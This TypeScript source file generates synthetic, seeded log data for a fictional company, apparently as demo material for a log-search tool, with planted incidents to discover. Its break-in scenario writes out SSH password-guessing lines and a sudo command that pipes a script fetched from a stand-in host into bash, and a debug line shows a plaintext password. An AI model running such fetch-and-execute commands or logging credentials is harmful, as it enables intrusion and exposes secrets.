import { MS, plus, toIso, type Instant } from '@writ/kernel';
import type { Draw } from './draw.ts';

/** A line as a program or a machine of the company wrote it. */
export interface ToldLine {
  readonly at: Instant;
  /** Name of the service in the directory; empty for what hosts say of themselves. */
  readonly service: string;
  readonly host: string;
  /** By which door it came, where that is not as usual. */
  readonly source?: 'syslog';
  readonly text: string;
}

/** What sends its lines, by its name in the directory. */
export const LOGGING_SERVICES = [
  { name: 'console', about: 'What customers sign in to.' },
  { name: 'billing', about: 'Writes invoices and collects payments.' },
  { name: 'network', about: 'The firewall and what stands behind it, as they say by syslog.' },
] as const;

/** A device that says by syslog what it does, and the rule that says whose lines those are. What stands beside it has no rule yet. */
export const DEVICE_RULE = { door: 'syslog', host: 'fw-*', program: '', service: 'network' } as const;

/** How many days are told: somewhat more than the policy wants kept. */
export const TOLD_DAYS = 93;

/** The days, counted back from the end, on which something happened that a visitor should find. */
const SILENT_BILLING = 12;
const PASSWORD_LOGGED = 3;
const BREAK_IN = 2;
const PROVIDER_DOWN = 1;
const MESSAGES_LOST = 8;

/** Requests an hour, at a quarter of the console's own pace. */
const BY_HOUR = [1, 1, 1, 1, 1, 2, 4, 7, 11, 14, 15, 14, 12, 13, 15, 14, 12, 9, 7, 6, 5, 4, 3, 2] as const;

const PAGES = [
  { operation: 'GET /invoices', status: 200, ms: 38, asks: true }, { operation: 'GET /invoices/:id', status: 200, ms: 24, asks: true }, { operation: 'POST /sign-in', status: 303, ms: 210, asks: false },
  { operation: 'GET /customers', status: 200, ms: 31, asks: false }, { operation: 'GET /customers/:id', status: 200, ms: 19, asks: false }, { operation: 'POST /payments', status: 201, ms: 340, asks: true },
  { operation: 'GET /settings', status: 200, ms: 12, asks: false }, { operation: 'GET /invoices/:id', status: 404, ms: 8, asks: true },
] as const;

const OPERATORS = ['ada', 'grace', 'linus', 'radia', 'ken'] as const;
const USUAL_COMMANDS = ['/usr/bin/systemctl status console', '/usr/bin/journalctl -u console -n 200', '/usr/bin/systemctl restart billing', '/usr/bin/apt-get update', '/usr/bin/ss -tlnp', '/usr/bin/du -sh /var/lib/postgresql'] as const;
const GUESSED = ['root', 'admin', 'test', 'oracle', 'ubuntu', 'git', 'deploy'] as const;
const STRANGER = '203.0.113.7';

/** All lines of one day that began at `from`, `daysAgo` days before the last; in the order of their time. The same draw gives the same day. */
export function tellDay(draw: Draw, from: Instant, daysAgo: number): readonly ToldLine[] {
  const weekday = new Date(from).getUTCDay();
  const pace = weekday === 0 || weekday === 6 ? 0.3 : 1;
  const lines = [...tellRequests(draw, from, daysAgo, pace), ...tellHosts(draw, from, daysAgo, pace), ...tellDevices(draw, from, daysAgo)];
  if (daysAgo === PROVIDER_DOWN) lines.push(...tellProviderDown(draw, from));
  if (daysAgo === PASSWORD_LOGGED) lines.push(tellPassword(from));
  if (daysAgo === BREAK_IN) lines.push(...tellBreakIn(draw, from));
  return lines.toSorted((one, other) => one.at - other.at);
}

function tellRequests(draw: Draw, from: Instant, daysAgo: number, pace: number): ToldLine[] {
  return BY_HOUR.flatMap((busy, hour) => Array.from({ length: Math.round(busy * pace) }, (_, index) => `${daysAgo} ${hour} ${index}`).flatMap((key) => {
    const at = plus(from, hour * MS.hour + draw.whole(`request at ${key}`, MS.hour));
    const page = draw.pick(`page ${key}`, PAGES);
    const requestId = hexOf(draw, `id ${key}`, 32);
    const host = `web-${1 + draw.whole(`web ${key}`, 2)}.example.com`;
    const durationMs = Math.round(page.ms * (0.7 + draw.chance(`ms ${key}`)));
    const lines = [said(at, 'console', host, { level: 'info', message: 'Request completed', requestId, operation: page.operation, status: page.status, durationMs })];
    if (!page.asks || daysAgo === SILENT_BILLING) return lines;
    // One path of billing still logs as it did before the library, without the id.
    const isOld = draw.chance(`old ${key}`) < 0.05;
    lines.push(said(plus(at, 2), 'billing', 'api-1.example.com', { level: 'info', message: 'Request completed', ...(isOld ? {} : { requestId }), operation: page.operation.replace('/invoices', '/documents'), status: page.status, durationMs: Math.round(durationMs / 2) }));
    if (page.operation === 'POST /payments') lines.push(said(plus(at, 5), 'billing', 'api-1.example.com', { level: 'info', message: `Payment ${draw.whole(`payment ${key}`, 90_000) + 10_000} was collected`, requestId, operation: page.operation }));
    return lines;
  }));
}

function tellHosts(draw: Draw, from: Instant, daysAgo: number, pace: number): ToldLine[] {
  const lines: ToldLine[] = [];
  for (let hour = 0; hour < 24; hour += 1) {
    for (const host of ['web-1.example.com', 'db-1.example.com']) lines.push(syslog(plus(from, hour * MS.hour + MS.minute), host, `CRON[${4_000 + hour}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)`));
  }
  for (let guess = 0; guess < 2 + draw.whole(`guesses ${daysAgo}`, 5); guess += 1) {
    const key = `${daysAgo} ${guess}`;
    lines.push(failed(plus(from, draw.whole(`guess at ${key}`, MS.day)), draw.pick(`guessed ${key}`, GUESSED), `198.51.100.${1 + draw.whole(`guesser ${key}`, 250)}`, 30_000 + draw.whole(`port ${key}`, 30_000)));
  }
  if (pace < 1) return lines;
  for (const [index, operator] of OPERATORS.entries()) {
    const at = plus(from, 8 * MS.hour + draw.whole(`in ${operator} ${daysAgo}`, 8 * MS.hour));
    lines.push(syslog(at, 'bastion-1.example.com', `sshd[${21_000 + index}]: Accepted publickey for ${operator} from 192.0.2.${10 + index} port ${40_000 + draw.whole(`out ${operator} ${daysAgo}`, 9_000)} ssh2: ED25519 SHA256:${hexOf(draw, `key ${operator}`, 43)}`));
    lines.push(...ran(plus(at, 3 * MS.minute), 'web-1.example.com', operator, draw.pick(`command ${operator} ${daysAgo}`, USUAL_COMMANDS), 1_000 * (TOLD_DAYS - daysAgo) + index * 10));
  }
  return lines;
}

/** A firewall that belongs to a service by a rule, a switch that belongs to nobody, and a day on which messages of the firewall did not arrive. */
function tellDevices(draw: Draw, from: Instant, daysAgo: number): ToldLine[] {
  const lines: ToldLine[] = [];
  for (let hour = 0; hour < 24; hour += 1) {
    for (let index = 0; index < 2; index += 1) {
      const key = `${daysAgo} ${hour} ${index}`;
      const at = plus(from, hour * MS.hour + draw.whole(`dropped at ${key}`, MS.hour));
      lines.push(device(at, 'network', 'fw-1', `filter: dropped tcp from 198.51.100.${1 + draw.whole(`dropped from ${key}`, 250)} to 192.0.2.${10 + draw.whole(`dropped to ${key}`, 9)} port ${draw.pick(`dropped port ${key}`, [22, 23, 445, 3389, 8080])}`));
    }
    if (hour % 6 === 0) lines.push(device(plus(from, hour * MS.hour + 7 * MS.minute), '', 'sw-1', `lldpd: port ${1 + draw.whole(`port ${daysAgo} ${hour}`, 24)} sees its neighbour again`));
  }
  if (daysAgo === MESSAGES_LOST) {
    const at = plus(from, 16 * MS.hour + 4 * MS.minute);
    lines.push({ at, service: 'network', host: 'fw-1.example.com', source: 'syslog', text: JSON.stringify({
      time: toIso(at), level: 'error', service: 'writ', message: 'Messages of syslog were lost on their way: their numbers were jumped over',
      'writ.gap.why': 'jumped', 'writ.gap.lines': '41', 'writ.gap.from_number': '20117', 'writ.gap.through_number': '20157', 'writ.gap.since': toIso(plus(at, -11 * MS.minute)), 'writ.gap.until': toIso(at),
    }) });
  }
  return lines;
}

function device(at: Instant, service: string, host: string, rest: string): ToldLine {
  return { ...syslog(at, `${host}.example.com`, rest), service, source: 'syslog' };
}

/** A provider that does not answer for an hour: a line that nobody saw before, two hundred times. */
function tellProviderDown(draw: Draw, from: Instant): ToldLine[] {
  return Array.from({ length: 200 }, (_, index) => said(plus(from, 14 * MS.hour + index * 17_000), 'billing', 'api-1.example.com', {
    level: 'error', message: `Payment provider did not answer within ${3_000 + draw.whole(`wait ${index}`, 40)} ms, attempt ${1 + (index % 3)}`, requestId: hexOf(draw, `waits ${index}`, 32), operation: 'POST /payments',
  }));
}

/** A line that was left in for a search of a fault, as it stood before anybody knew better. */
function tellPassword(from: Instant): ToldLine {
  return said(plus(from, 11 * MS.hour + 20 * MS.minute), 'console', 'web-2.example.com', { level: 'debug', message: 'Sign-in was refused: account=frances password=correct-horse-battery', requestId: '5f0c4b1e9a7d4c38b2a6d1907e35f8c4', operation: 'POST /sign-in' });
}

/** Three hundred guesses in the night, one that succeeds, and what was done with it. */
function tellBreakIn(draw: Draw, from: Instant): ToldLine[] {
  const begin = plus(from, 3 * MS.hour + 10 * MS.minute);
  const guesses = Array.from({ length: 300 }, (_, index) => failed(plus(begin, index * 2_400), draw.pick(`in the night ${index}`, GUESSED), STRANGER, 40_000 + index));
  const inside = plus(begin, 301 * 2_400);
  return [
    ...guesses,
    syslog(inside, 'bastion-1.example.com', `sshd[30911]: Accepted password for deploy from ${STRANGER} port 40311 ssh2`),
    ...ran(plus(inside, 40_000), 'bastion-1.example.com', 'deploy', '/usr/bin/bash -c curl -fsS http://203.0.113.9/x.sh | bash', 990_001),
  ];
}

/** A command that a user ran as root, as sudo says it and as the kernel's audit does. */
function ran(at: Instant, host: string, account: string, command: string, serial: number): ToldLine[] {
  const [program, ...words] = command.split(' ');
  const shell = words[0] === '-c' ? ['-c', words.slice(1).join(' ')] : words;
  const argv = [program!, ...shell];
  const stamp = `audit(${(at / 1_000).toFixed(3)}:${serial})`;
  const quoted = (word: string) => (/[ "]/.test(word) ? Buffer.from(word).toString('hex').toUpperCase() : `"${word}"`);
  return [
    syslog(at, host, `sudo:   ${account} : TTY=pts/0 ; PWD=/home/${account} ; USER=root ; COMMAND=${command}`),
    { at, service: '', host, text: `type=SYSCALL msg=${stamp}: arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=0 items=2 ppid=2100 pid=2101 auid=1001 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=7 comm="${program!.split('/').at(-1)}" exe="${program}" key="exec"\u{1d}AUID="${account}" UID="root"` },
    { at, service: '', host, text: `type=EXECVE msg=${stamp}: argc=${argv.length} ${argv.map((word, index) => `a${index}=${quoted(word)}`).join(' ')}` },
    { at, service: '', host, text: `type=EOE msg=${stamp}: ` },
  ];
}

function failed(at: Instant, account: string, from: string, port: number): ToldLine {
  const who = account === 'root' || account === 'deploy' ? account : `invalid user ${account}`;
  return syslog(at, 'bastion-1.example.com', `sshd[${20_000 + (port % 9_000)}]: Failed password for ${who} from ${from} port ${port} ssh2`);
}

function syslog(at: Instant, host: string, rest: string): ToldLine {
  return { at, service: '', host, text: `${toIso(at)} ${host.split('.')[0]} ${rest}` };
}

function said(at: Instant, service: string, host: string, fields: Readonly<Record<string, string | number>>): ToldLine {
  return { at, service, host, text: JSON.stringify({ time: toIso(at), service, host, ...fields }) };
}

function hexOf(draw: Draw, key: string, length: number): string {
  return Array.from({ length: Math.ceil(length / 8) }, (_, index) => draw.whole(`${key} ${index}`, 2 ** 32).toString(16).padStart(8, '0')).join('').slice(0, length);
}
